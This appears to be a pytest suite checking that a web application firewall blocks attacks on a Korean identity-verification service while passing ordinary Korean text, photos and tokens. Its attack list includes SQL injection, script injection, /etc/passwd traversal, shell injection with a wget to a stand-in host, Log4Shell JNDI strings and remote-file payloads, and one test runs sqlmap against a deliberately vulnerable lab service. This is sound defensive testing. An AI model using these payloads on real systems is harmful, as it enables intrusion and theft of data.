"""Attacks work on the service itself and not through the edge; what people mean passes."""

from __future__ import annotations

import base64
import hashlib
import json
import random
import subprocess
import sys
from pathlib import Path
from urllib.parse import quote, urlencode

import pytest
from namespaces import inside
from siege import Row, record

from .conftest import EDGE, NAME, SERVICE, run_in

FORM = {"Content-Type": "application/x-www-form-urlencoded"}
JSON = {"Content-Type": "application/json"}


def encoded(text: str | bytes) -> str:
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def get(path: str, **words: str) -> dict:
    return {"path": f"{path}?{urlencode(words)}" if words else path}


def post(path: str, body: str | bytes, headers: dict) -> dict:
    return {"method": "POST", "path": path, "body": encoded(body), "headers": headers}


ATTACKS = {
    "sql-tautology": get("/search", name="' or '1'='1"),
    "sql-union": get("/search", name="x' union select name, state from people -- "),
    "sql-in-json": post("/verify", json.dumps({"name": "1' or sleep(5)#"}), JSON),
    "sql-in-form": post("/verify", urlencode({"name": "1; drop table people--"}), FORM),
    "script": get("/memo", text="<script>alert(document.cookie)</script>"),
    "event-handler": get("/memo", text='<img src=x onerror="alert(1)">'),
    "path-traversal": get("/file", name="../../../../etc/passwd"),
    "shell": get("/verify", host="127.0.0.1; cat /etc/passwd"),
    "shell-substitution": get("/verify", host="$(wget http://192.0.2.1/x)"),
    "log4shell": {"path": "/verify", "headers": {"X-Api-Version": "${jndi:ldap://192.0.2.1/a}"}},
    "log4shell-in-agent": {"path": "/verify", "headers": {"User-Agent": "${jndi:ldap://192.0.2.1/a}"}},
    "php-code": get("/verify", code="<?php system('id'); ?>"),
    "remote-file": get("/verify", page="http://192.0.2.1/shell.txt?"),
    "java-classes": get("/verify", code="java.lang.Runtime.getRuntime().exec('id')"),
    "header-injection": {"path": "/verify?to=x%0d%0aSet-Cookie:%20a=b"},
    "hidden-file": get("/.git/config"),
    "scanner": {"path": "/", "headers": {"User-Agent": "sqlmap/1.10 (https://sqlmap.org)"}},
    "second-scanner": {"path": "/", "headers": {"User-Agent": "Mozilla/5.00 (Nikto/2.5.0)"}},
}


@pytest.fixture(scope="module")
def thrown(outside) -> dict[str, int]:
    seen = outside.asks(*ATTACKS.values(), source="10.78.0.13")
    return {name: answer["status"] for name, answer in zip(ATTACKS, seen, strict=True)}


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_blocked(thrown, attack):
    record(Row(attack, thrown[attack] == 403, "audit log of the WAF"))
    assert thrown[attack] == 403


def test_the_same_attacks_reach_the_service_where_no_edge_is(direct):
    """Otherwise they would be none: two of them even get what they are after."""
    seen = dict(zip(ATTACKS, direct.asks(*ATTACKS.values()), strict=True))

    assert {answer["status"] for answer in seen.values()} == {200}
    assert len(json.loads(seen["sql-tautology"]["body"])) == 3
    assert "root:x:0:0" in seen["path-traversal"]["body"]


def test_what_was_blocked_is_in_the_audit_log_by_rule_and_source(thrown, holder):
    """And nobody but root reads it, since it quotes what matched."""
    log = run_in(holder(), "cat", "/var/log/haechi-edge/audit.log").stdout

    assert thrown
    for rule in ("942100", "941100", "930100", "932160", "10000", "933100", "913100", "949110"):
        assert f'[id "{rule}"]' in log, rule
    assert " 10.78.0.13 " in log
    assert run_in(holder(), "stat", "-c", "%a %U", "/var/log/haechi-edge/audit.log").stdout == "600 root\n"


# Always the same bytes: what an image of that size looks like to a WAF is chance enough.
PHOTO = b"\xff\xd8\xff\xe0" + random.Random(7).randbytes(400_000)  # noqa: S311 - no secret
TOKEN = base64.b64encode(random.Random(3).randbytes(240)).decode()  # noqa: S311 - no secret
BOUNDARY = "----haechi7MA4YWxkTrZu0gW"


def upload(data: bytes) -> dict:
    parts = [
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="name"\r\n\r\n홍길동\r\n'.encode(),
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="image"; filename="신분증 앞면.jpg"\r\n'.encode(),
        b"Content-Type: image/jpeg\r\n\r\n" + data + b"\r\n",
        f"--{BOUNDARY}--\r\n".encode(),
    ]
    return post("/idcard", b"".join(parts), {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"})


SAID = [
    "저는 신분증을 업로드했는데 오류가 나요; 다시 보내도 될까요?",
    "김&이 법무법인 - 서울특별시 강남구 테헤란로 152, 5층 (역삼동)",
    "\"본인확인\" 버튼을 눌렀더니 '시간 초과'라고 나옵니다!",
    "생년월일은 1990-01-01이고, 전화번호는 +82-10-1234-5678입니다.",
    "선택 항목을 모두 삭제하고 새로 등록해 주세요 (급합니다 :) )",
    "여권 이름은 O'Brien, 영문 주소는 12-3 Gangnam-daero 94-gil",
    "비밀번호 변경 = 완료? 100% 맞나요 #문의 @고객센터",
    "이모지도 됩니다 😀👍, 한자(漢字)와 カタカナ도요",
]
MEANT = {
    "a look-up": get("/lookup", name="홍길동"),
    "a path in Korean": {"path": f"/{quote('문서')}/{quote('안내')}"},
    "a name with a space": get("/lookup", name="남궁 민수"),
    "a mail address": get("/verify", email="hong.gildong+kyc@example.co.kr"),
    "many fields": get("/verify", **{f"field{number}": "값" * 8 for number in range(40)}),
    "a token": {"path": "/verify", "headers": {"Authorization": f"Bearer {TOKEN}"}},
    "a cookie": {"path": "/verify", "headers": {"Cookie": "session=" + "3f9a" * 16 + "; lang=ko-KR"}},
    "a photo": upload(PHOTO),
    "a photo within JSON": post("/verify", json.dumps({"name": "이하나", "image": encoded(PHOTO[:180_000])}), JSON),
    "a raw photo": post("/idcard", PHOTO, {"Content-Type": "image/jpeg"}),
    "nested JSON": post(
        "/verify",
        json.dumps(
            {"고객": {"이름": "김민호", "주소": [{"시": "부산", "동": "우동"}]}, "동의": True}, ensure_ascii=False
        ),
        JSON,
    ),
}
MEANT |= {f"words {number} in a query": get("/verify", q=text) for number, text in enumerate(SAID)}
MEANT |= {f"words {number} in a form": post("/verify", urlencode({"q": t}), FORM) for number, t in enumerate(SAID)}
MEANT |= {
    f"words {number} in JSON": post("/verify", json.dumps({"q": t}, ensure_ascii=False), JSON)
    for number, t in enumerate(SAID)
}


def test_what_people_mean_passes_and_arrives_as_it_was(outside):
    """False positives: none, of all of them."""
    seen = dict(zip(MEANT, outside.asks(*MEANT.values(), source="10.78.0.14"), strict=True))

    assert {name: answer["status"] for name, answer in seen.items() if answer["status"] != 200} == {}
    for name in ("a photo", "a raw photo", "a photo within JSON", "nested JSON", "words 0 in a form"):
        sent = base64.b64decode(MEANT[name]["body"])
        told = json.loads(seen[name]["body"])["body"]
        assert told == {"bytes": len(sent), "sha256": hashlib.sha256(sent).hexdigest()}, name


def test_an_exclusion_passes_over_its_argument_on_its_path_until_its_day(outside):
    """One of policy's two has ended; neither says anything about another path or argument."""
    rows = [
        get("/memo", text="1' or 1=1"),
        get("/memo", title="1' or 1=1"),
        get("/memo", other="1' or 1=1"),
        get("/verify", text="1' or 1=1"),
    ]

    assert [answer["status"] for answer in outside.asks(*rows, source="10.78.0.15")] == [200, 403, 403, 403]


@pytest.mark.parametrize(("machine", "url", "finds"), [
    ("trixie", f"http://{SERVICE}:8080/search?name=x", True),
    ("client", f"https://{EDGE}/search?name=x", False),
])  # fmt: skip
@pytest.mark.usefixtures("outside")
def test_sqlmap_finds_the_hole_and_not_through_the_edge(machine, url, finds, tmp_path):
    """With a browser's name, so that more than its own is held against it; bounded in what it tries."""
    program = Path(sys.executable).parent / "sqlmap"
    tries = ["--batch", "--random-agent", "--level=1", "--risk=1", "--technique=BEU", "--retries=0", "--timeout=5"]
    where = ["-u", url, f"--host={NAME}", f"--output-dir={tmp_path}", "--flush-session", "--disable-coloring"]
    argv = ["nsenter", "--target", inside(machine)[2], "--net", str(program), *where, *tries, "--dbms=sqlite"]
    done = subprocess.run(argv, capture_output=True, text=True, check=False, timeout=120, stdin=subprocess.DEVNULL)

    if not finds:
        record(Row("sqlmap", "403 (Forbidden)" in done.stdout, "audit log of the WAF"))
    assert ("is vulnerable" in done.stdout) is finds, done.stdout[-2000:]
    assert ("403 (Forbidden)" in done.stdout) is not finds, done.stdout[-2000:]
